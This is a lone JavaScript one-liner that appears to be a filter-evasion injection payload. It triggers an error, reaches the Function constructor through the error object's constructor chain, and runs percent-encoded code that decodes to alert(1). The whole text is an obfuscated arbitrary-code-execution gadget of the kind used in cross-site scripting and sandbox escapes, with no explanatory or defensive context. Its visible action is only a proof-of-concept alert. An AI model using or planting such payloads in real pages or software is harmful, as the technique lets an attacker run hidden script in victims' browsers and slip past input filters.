try { null.x; } catch (e) { const k = 'constructor'; e[k][k](unescape('%61%6c%65%72%74%28%31%29'))(); }
